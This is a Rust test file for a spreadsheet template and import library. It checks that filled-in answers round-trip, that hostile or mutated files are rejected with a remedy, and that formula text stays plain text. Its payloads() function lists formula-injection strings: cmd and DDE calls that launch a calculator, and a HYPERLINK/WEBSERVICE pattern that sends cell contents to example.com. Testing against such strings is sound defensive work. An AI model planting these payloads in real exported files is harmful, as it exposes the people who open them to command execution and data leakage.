//! Spreadsheets in and out: every template of every standard filled in by another program, and files
//! that are broken, hostile or not what they say.
//!
//! `office/fill.py` fills in the templates and says what must be read; `office/hostile.py` makes the
//! bad files. Both use nothing but Python's standard library and none of the code that is tested.

#![allow(clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "a test stops where something is wrong")]

use std::collections::BTreeMap;
use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};
use std::process::Command;

use dabiao_catalog::pack::{Language, pack_bundle};
use dabiao_catalog::{Document, builtin};
use dabiao_core::standard::Level;
use dabiao_core::{ClauseIndex, DepartmentIndex, Exact, FigureIndex, FigureKind, Unit, Value, parse_entry};
use dabiao_draft::{ClauseDraft, Draft, Evidence, draft_record};
use dabiao_office::archive::{Part, unpack};
use dabiao_office::face;
use dabiao_office::guard::{Admitted, admit};
use dabiao_office::import::import;
use dabiao_office::layout::fingerprint;
use dabiao_office::scope;
use dabiao_office::sheet::read_book;
use dabiao_office::table::{Encoding, read_table, write_table};
use dabiao_office::template::{Made, template};
use dabiao_office::words::problem_text;
use dabiao_tests::Random;
use dabiao_view::Locale;
use serde_json::{Value as Json, json};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

fn script(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("office").join(name)
}

/// An empty folder for the files of a test.
fn folder(name: &str) -> PathBuf {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("office").join(name);
    if folder.exists() {
        std::fs::remove_dir_all(&folder).expect("the folder of the last run");
    }
    std::fs::create_dir_all(&folder).expect("a folder");
    folder
}

fn python(arguments: &[&Path]) -> String {
    let output = Command::new("python3").args(arguments).output().expect("python3 is needed");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// An archive of these files, not compressed.
fn packed(parts: &[Part]) -> Vec<u8> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    for part in parts {
        let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
        archive.start_file(part.name.as_str(), stored).expect("a name");
        archive.write_all(&part.bytes).expect("memory");
    }
    archive.finish().expect("an archive").into_inner()
}

fn made(document: &Document) -> Made {
    Made { version: "0".into(), standard_hash: fingerprint(document) }
}

/// Every template of every standard at every level it has, and what its figures are.
fn write_templates(folder: &Path, documents: &[Document]) {
    let mut figures = BTreeMap::new();
    for document in documents {
        let standard = &document.standard;
        let of_standard: BTreeMap<&str, Json> = standard
            .figures()
            .iter()
            .map(|figure| {
                let text = |bound: Option<Exact>| bound.map(|bound| bound.to_string());
                let record = match figure.kind {
                    FigureKind::YesNo => json!({ "unit": "yes_no" }),
                    FigureKind::Number { unit, min, max } => json!({ "unit": unit.id(), "min": text(min), "max": text(max) }),
                };
                (figure.id.as_str(), record)
            })
            .collect();
        figures.insert(document.id.as_str(), of_standard);
        let departments = (0..).map(DepartmentIndex).take(standard.departments().len()).map(Some);
        for scope in std::iter::once(None).chain(departments) {
            if scope::figures(document, standard.level(), scope).is_empty() {
                continue;
            }
            let name = scope.map_or("all", |scope| standard.departments()[scope.0 as usize].as_str());
            let locale = if scope.is_some_and(|scope| scope.0 % 5 == 4) { Locale::En } else { Locale::Zh };
            let bytes = template(document, &Draft::empty(standard), scope, standard.level(), locale, &made(document)).expect("a template");
            std::fs::write(folder.join(format!("{}={name}.xlsx", document.id)), bytes).expect("a template");
        }
    }
    std::fs::write(folder.join("figures.json"), json!(figures).to_string()).expect("figures");
}

/// Reads the filled workbooks of a folder; every answer must arrive. Answers how many files and answers.
fn check_filled(folder: &Path, filled: &str, documents: &[Document]) -> (usize, usize) {
    let expected: BTreeMap<String, Json> =
        serde_json::from_str(&std::fs::read_to_string(folder.join("expected.json")).expect("expected")).expect("expected");
    let (mut files, mut answers, mut wrong) = (0, 0, Vec::new());
    for (file, expected) in &expected {
        let path = folder.join(filled).join(file);
        if !path.exists() {
            continue;
        }
        files += 1;
        let document = documents.iter().find(|document| file.starts_with(&format!("{}=", document.id))).expect("a standard");
        let standard = &document.standard;
        let book = read_book(&std::fs::read(path).expect("a workbook"), file, None).unwrap_or_else(|problem| panic!("{file}: {problem:?}"));
        let import = import(document, &book.sheets, &fingerprint(document));
        wrong.extend(import.problems.iter().map(|problem| format!("{file}: {}", problem_text(Locale::Zh, document, problem))));
        let wanted = expected["figures"].as_object().expect("figures");
        answers += wanted.len();
        for (id, wanted) in wanted {
            let figure = standard.find_figure(id).expect("a figure");
            let Some(answer) = import.answers.iter().find(|answer| answer.figure == figure) else {
                wrong.push(format!("{file}: {id} did not arrive"));
                continue;
            };
            let entry = parse_entry(&answer.text, standard.figure(figure).expect("a figure")).expect("understood").expect("known");
            let number = |name: &str| wanted[name].as_str().expect("a number").parse::<Exact>().expect("a number");
            let is_right = match (wanted.get("yes").and_then(Json::as_bool), entry.value) {
                (Some(yes), Value::YesNo(answer)) => yes == answer,
                (None, value) => value.range().is_some_and(|range| (range.low(), range.high()) == (number("low"), number("high"))),
                _ => false,
            };
            if !is_right || wanted["remark"] != answer.remark.as_str() {
                wrong.push(format!("{file}: {}!{} {id}: {:?} and not {wanted}", answer.sheet, answer.cell, answer.text));
            }
        }
        let clauses = expected["clauses"].as_object().expect("clauses");
        if import.answers.len() != wanted.len() || import.clauses.len() != clauses.len() {
            wrong.push(format!("{file}: {} answers and {} clauses", import.answers.len(), import.clauses.len()));
        }
        for (id, wanted) in clauses {
            let clause = standard.find_clause(id).expect("a clause");
            let answer = import.clauses.iter().find(|answer| answer.clause == clause);
            let is_right = answer.is_some_and(|answer| {
                answer.not_applicable == Some(true)
                    && wanted["reason"].as_str() == answer.reason.as_deref()
                    && wanted["note"].as_str() == answer.note.as_deref()
                    && answer.evidence.len() == 1
                    && wanted["number"] == answer.evidence[0].number.as_str()
                    && answer.evidence[0].date == "2021-12-31"
            });
            if !is_right {
                wrong.push(format!("{file}: clause {id}: {answer:?} and not {wanted}"));
            }
        }
    }
    let head = wrong.iter().take(20).cloned().collect::<Vec<_>>().join("\n");
    assert!(wrong.is_empty(), "{} wrong:\n{head}", wrong.len());
    (files, answers)
}

#[test]
fn every_answer_of_every_filled_template_arrives() {
    let documents = builtin::standards().expect("standards");
    let folder = folder("filled-by-python");
    write_templates(&folder, &documents);
    println!("{}", python(&[&script("fill.py"), &folder]));
    let (files, answers) = check_filled(&folder, "filled", &documents);
    println!("{files} workbooks, {answers} answers, all as written");
    assert!(files > 100, "every standard, whole and by department: {files}");
}

/// Needs LibreOffice Calc: `cargo test -p dabiao-tests --test office_import -- --ignored --nocapture`.
#[test]
#[ignore = "needs LibreOffice"]
fn every_answer_survives_libreoffice() {
    let documents = builtin::standards().expect("standards");
    let folder = folder("through-libreoffice");
    write_templates(&folder, &documents);
    python(&[&script("fill.py"), &folder]);
    println!("{}", python(&[&script("libreoffice_round_trip.py"), &folder]));
    let (files, answers) = check_filled(&folder, "opened", &documents);
    println!("{files} workbooks, {answers} answers, all as written");
    assert!(files >= documents.len());
}

/// The most time that one file may take here, without optimization; a page gives up after five seconds.
const MOST_TIME: std::time::Duration = std::time::Duration::from_secs(5);
/// The most memory that all bad files may take, in KiB.
const MOST_MEMORY: u64 = 256 * 1024;

#[test]
fn bad_files_are_answered_with_cause_and_remedy_in_bounded_time_and_memory() {
    let bundle = builtin::bundles().expect("standards").remove(0);
    let document = &bundle.document;
    let standard = &document.standard;
    let is_share = |kind| matches!(kind, FigureKind::Number { unit: Unit::Percent, .. });
    let asked = scope::figures(document, Level::Town, None);
    let figure = asked.iter().map(|asked| asked.figure).find(|index| is_share(standard.figure(*index).expect("a figure").kind));
    let figure = figure.expect("a share");
    let (id, name) = (&standard.figure(figure).expect("a figure").id, &document.figures[figure.0 as usize].name.zh);
    let folder = folder("hostile");
    let template_path = folder.join("template.xlsx");
    let bytes = template(document, &Draft::empty(standard), None, Level::Town, Locale::Zh, &made(document)).expect("a template");
    std::fs::write(&template_path, bytes).expect("a template");
    println!("{}", python(&[&script("hostile.py"), &folder, &template_path, Path::new(id), Path::new(name)]));
    let cases: Vec<Json> = serde_json::from_str(&std::fs::read_to_string(folder.join("cases.json")).expect("cases")).expect("cases");
    assert!(cases.len() >= 300, "{}", cases.len());
    let packed = [pack_bundle(&bundle, Language::Chinese), pack_bundle(&bundle, Language::English)];
    let mut wrong = Vec::new();
    let mut slowest = (std::time::Duration::ZERO, String::new());
    for case in &cases {
        let file = case["file"].as_str().expect("a file");
        let bytes = std::fs::read(folder.join(file)).expect("a file");
        #[expect(clippy::disallowed_methods, reason = "a test may look at the clock")]
        let start = std::time::Instant::now();
        let read = |packed, locale| face::read_json(packed, &bytes, file, case["encoding"].as_str(), locale).expect("a standard");
        let answer = read(&packed[0], "zh-CN");
        let took = start.elapsed();
        if took > slowest.0 {
            slowest = (took, file.to_owned());
        }
        let answer: Json = serde_json::from_str(&answer).expect("JSON");
        let english: Json = serde_json::from_str(&read(&packed[1], "en")).expect("JSON");
        if let Some(what) = judge(case, &answer, &english, id, took) {
            wrong.push(format!("{file}: {what}: {}", answer.to_string().chars().take(400).collect::<String>()));
        }
    }
    let memory = peak_memory();
    println!("{} files; the slowest took {:?} ({}); peak memory {:?} KiB", cases.len(), slowest.0, slowest.1, memory);
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
    assert!(memory.is_none_or(|memory| memory <= MOST_MEMORY), "{memory:?} KiB");
}

/// Changes inside the parts of a whole archive: what a damaged archive cannot show.
/// `DABIAO_MUTATIONS=100000 cargo test -p dabiao-tests --test office_import mutated` tries more.
#[test]
fn mutated_parts_never_crash() {
    let count = std::env::var("DABIAO_MUTATIONS").ok().and_then(|count| count.parse().ok()).unwrap_or(300_u64);
    let bundle = builtin::bundles().expect("standards").remove(0);
    let document = &bundle.document;
    let draft = Draft::of_sample(&document.standard, bundle.samples.first().expect("an example"));
    let department = (0..).map(DepartmentIndex).find(|department| scope::clauses(document, Level::Town, Some(*department)).len() > 1);
    let bytes = template(document, &draft, department, Level::Town, Locale::Zh, &made(document)).expect("a template");
    let parts = unpack(&bytes).expect("our own archive");
    let pieces = [
        "<",
        ">",
        "/",
        "\"",
        "&",
        "&#0;",
        "&amp;",
        "9",
        "-",
        "A1:",
        "XFD",
        "99999999999",
        "<c",
        "<v>",
        "</v>",
        "<row r=\"0\">",
        "\u{fffd}",
        "]]>",
    ];
    let mut random = Random(20_250_301);
    for number in 0..count {
        let mut mutated = parts.clone();
        let part = usize::try_from(random.below(mutated.len() as u64)).expect("few");
        let content = &mut mutated[part].bytes;
        for _ in 0..=random.below(4) {
            let place = usize::try_from(random.below(content.len() as u64 + 1)).expect("small");
            let end = content.len().min(place + usize::try_from(random.below(12)).expect("small"));
            let piece = pieces[usize::try_from(random.below(pieces.len() as u64)).expect("few")];
            match random.below(3) {
                0 => drop(content.splice(place..end, [])),
                1 => drop(content.splice(place..place, piece.bytes())),
                _ => drop(content.splice(place..end, piece.bytes())),
            }
        }
        match read_book(&packed(&mutated), "a.xlsx", None) {
            Ok(book) => drop(import(document, &book.sheets, &fingerprint(document))),
            Err(problem) => assert!(problem_text(Locale::Zh, document, &problem).contains('请'), "{number}: {problem:?}"),
        }
    }
}

/// What is wrong with the answer to a bad file, if anything.
fn judge(case: &Json, answer: &Json, english: &Json, id: &str, took: std::time::Duration) -> Option<&'static str> {
    let list = |record: &Json, field: &str| record[field].as_array().cloned().expect("a list");
    let (problems, answers) = (list(answer, "problems"), list(answer, "answers"));
    let text = |problem: &Json| problem["text"].as_str().unwrap_or_default().to_owned();
    let value = answers.iter().find(|answer| answer["figure"] == id).map(|answer| answer["text"].as_str().unwrap_or_default().to_owned());
    let value = value.map(|text| text.chars().map(half_width).filter(|character| *character != '%').collect::<String>());
    let is_expected = value.is_some() && value.as_deref() == case["value"].as_str();
    if took > MOST_TIME {
        return Some("slow");
    }
    if problems.iter().any(|problem| !text(problem).contains('请') || text(problem).contains(['{', '}'])) {
        return Some("no remedy");
    }
    if list(english, "problems").len() != problems.len() || list(english, "problems").iter().any(|problem| text(problem).len() < 20) {
        return Some("no English words");
    }
    let is_right = match case["becomes"].as_str().expect("what becomes of it") {
        "refused" => problems.len() == 1 && answers.is_empty(),
        "read" => problems.is_empty() && is_expected,
        "noticed" => problems.len() == 1 && is_expected,
        "problem" => {
            let (sheet, cell) = (case["sheet"].as_str().unwrap_or_default(), case["cell"].as_str().unwrap_or_default());
            let place = format!("{sheet}!{cell}");
            problems.iter().any(|problem| {
                text(problem).starts_with(&place) && problem["sheet"] == sheet && (cell.is_empty() || problem["cell"] == cell)
            })
        }
        _ => true,
    };
    (!is_right).then_some("not as expected")
}

fn half_width(character: char) -> char {
    match character {
        '\u{ff01}'..='\u{ff5e}' => char::from_u32(u32::from(character) - 0xfee0).unwrap_or(character),
        other => other,
    }
}

/// The most memory that this process ever had, in KiB; where the system tells.
fn peak_memory() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|line| line.starts_with("VmHWM:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// Sixty ways to begin a formula, after the lists that testers use.
fn payloads() -> Vec<String> {
    let heads = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"];
    let tails = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://example.com?x=\"&A1,\"打开\")",
        "SUM(A1:A9)*cmd",
        "WEBSERVICE(\"http://example.com\")",
        "DDE(\"cmd\";\"/C calc\";\"a\")",
    ];
    heads.iter().flat_map(|head| tails.iter().map(move |tail| format!("{head}{tail}"))).collect()
}

#[test]
fn formulas_in_texts_stay_texts() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 60);
    // Through a text with separators: no cell begins like a formula, and reading gives back what was written.
    for encoding in [Encoding::Utf8, Encoding::Gb18030] {
        let rows: Vec<Vec<String>> = payloads.iter().map(|payload| vec!["a".to_owned(), payload.clone()]).collect();
        let bytes = write_table(&rows, encoding);
        let book = read_table(&bytes, "a.csv", None).expect("a table");
        for (row, payload) in (0_u32..).zip(&payloads) {
            assert_eq!(book.sheets[0].cells[&(row, 1)].shown(), payload);
        }
        let text = String::from_utf8_lossy(&bytes).into_owned();
        for line in text.split("\r\n").filter(|line| line.starts_with("a,") && encoding == Encoding::Utf8) {
            let cell = line[2..].trim_start_matches('"');
            assert!(cell.starts_with('\''), "{line}");
        }
    }
    // Through workbooks: no sheet has a formula, and every cell holds the text.
    for bundle in builtin::bundles().expect("standards") {
        let document = &bundle.document;
        let standard = &document.standard;
        let mut draft = Draft::empty(standard);
        for (index, payload) in (0..standard.figures().len()).zip(payloads.iter().cycle()) {
            draft.set_text(FigureIndex(u32::try_from(index).expect("few")), payload.as_str().into());
        }
        for (index, payload) in (0..standard.clauses().len()).zip(payloads.iter().cycle()) {
            let text: std::rc::Rc<str> = payload.as_str().into();
            let evidence = Evidence { name: text.clone(), number: text.clone(), date: text.clone(), ..Evidence::default() };
            let said =
                ClauseDraft { not_applicable: true, reason: text.clone(), note: text, evidence: vec![evidence], ..ClauseDraft::default() };
            draft.set_clause(ClauseIndex(u32::try_from(index).expect("few")), said);
        }
        let bytes = template(document, &draft, None, standard.level(), Locale::Zh, &made(document)).expect("a template");
        let Ok(Admitted::Workbook(parts)) = admit(&bytes, "a.xlsx") else { panic!("our own workbook is refused") };
        for tag in [&b"<f>"[..], b"<f "] {
            let has_tag = |part: &Part| part.bytes.windows(tag.len()).any(|window| window == tag);
            assert!(!parts.iter().any(has_tag), "{}: a formula", document.id);
        }
        let book = read_book(&bytes, "a.xlsx", None).expect("a workbook");
        let shown: Vec<&str> = book.sheets.iter().flat_map(|sheet| sheet.cells.values().map(|cell| cell.shown())).collect();
        for payload in payloads.iter().take(standard.figures().len()) {
            assert!(shown.iter().any(|text| text == payload), "{}: {payload:?}", document.id);
        }
        let record = draft_record(&document.id, standard, &draft).to_string();
        let packed = pack_bundle(&bundle, Language::Chinese);
        let csv = face::csv_bytes(&packed, &record, "utf-8", "zh-CN").expect("a text");
        let book = read_table(&csv, "a.csv", None).expect("a table");
        assert!(book.sheets[0].cells.values().any(|cell| cell.shown() == payloads[1]));
    }
}

#[test]
fn what_a_page_asks_for_comes_back_to_it() {
    for bundle in builtin::bundles().expect("standards") {
        let standard = &bundle.document.standard;
        let Some(sample) = bundle.samples.first() else { continue };
        let draft = Draft::of_sample(standard, sample);
        let record = draft_record(&bundle.document.id, standard, &draft).to_string();
        let wanted: Vec<String> = scope::figures(&bundle.document, draft.level, None)
            .iter()
            .filter(|asked| !draft.text(asked.figure).is_empty())
            .map(|asked| standard.figure(asked.figure).expect("a figure").id.clone())
            .collect();
        for (language, locale) in [(Language::Chinese, "zh-CN"), (Language::English, "en")] {
            let packed = pack_bundle(&bundle, language);
            let workbook = face::template_bytes(&packed, &record, None, locale).expect("a template");
            let utf8 = face::csv_bytes(&packed, &record, "utf-8", locale).expect("a text");
            let gb18030 = face::csv_bytes(&packed, &record, "gb18030", locale).expect("a text");
            for (bytes, file) in [(workbook, "a.xlsx"), (utf8, "a.csv"), (gb18030, "b.csv")] {
                let answer = face::read_json(&packed, &bytes, file, None, locale).expect("an answer");
                let answer: Json = serde_json::from_str(&answer).expect("JSON");
                let ids = answer["answers"].as_array().expect("answers").iter();
                let ids: Vec<String> = ids.map(|answer| answer["figure"].as_str().expect("an id").to_owned()).collect();
                assert_eq!(ids, wanted, "{} {file} {locale}: {}", bundle.document.id, answer["problems"]);
                assert_eq!(answer["problems"], json!([]));
            }
        }
        let packed = pack_bundle(&bundle, Language::Chinese);
        assert_eq!(face::template_bytes(&packed, &record, Some(9_999), "zh-CN"), None, "no such department");
        assert_eq!(face::template_bytes(&packed[..99], &record, None, "zh-CN"), None, "no standard");
        assert_eq!(face::template_bytes(&packed, "{", None, "zh-CN"), None, "no record");
    }
}
